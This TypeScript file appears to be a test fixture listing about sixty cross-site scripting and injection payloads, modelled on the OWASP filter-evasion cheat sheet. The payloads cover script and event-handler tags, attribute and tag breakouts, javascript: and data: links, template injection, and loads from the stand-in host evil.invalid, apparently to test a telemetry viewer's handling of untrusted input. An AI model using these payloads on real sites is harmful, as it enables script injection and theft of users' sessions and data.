// Sixty texts that become code, markup, links or commands where somebody forgets that telemetry is written by strangers. Each
// calls alert(), asks another host, or breaks out of the place that it is likely to be put in. Kinds after the OWASP XSS
// Filter Evasion Cheat Sheet, written for this suite.
const CALL = "alert(document.domain)";
const AWAY = "//evil.invalid/x";

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}"`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="data:text/html,<script>${CALL}</script>">`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<button formaction="javascript:${CALL}" form=x>x</button>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}">`,
  `<style>@import "${AWAY}";</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
];
const BREAKOUTS = [
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}`,
  `' onfocus='${CALL}' autofocus='`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `\`;${CALL};//`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `';${CALL};'`,
  `\\";${CALL};//`,
];
const LINKS = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `https:${AWAY}?"><script>${CALL}</script>`,
  `https://user:pass@evil.invalid/`,
  `blob:https://evil.invalid/1`,
];
const TEXTS = [
  "\u202Eevil\u202C\u2066hidden\u2069",
  "a\u0000b\u0007c\u001B[31mred",
  `__proto__`,
  `constructor`,
  `{"<img src=x onerror=${CALL}>":"<script>${CALL}</script>"}`,
  `${"A".repeat(5000)}<script>${CALL}</script>`,
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...BREAKOUTS, ...LINKS, ...TEXTS];
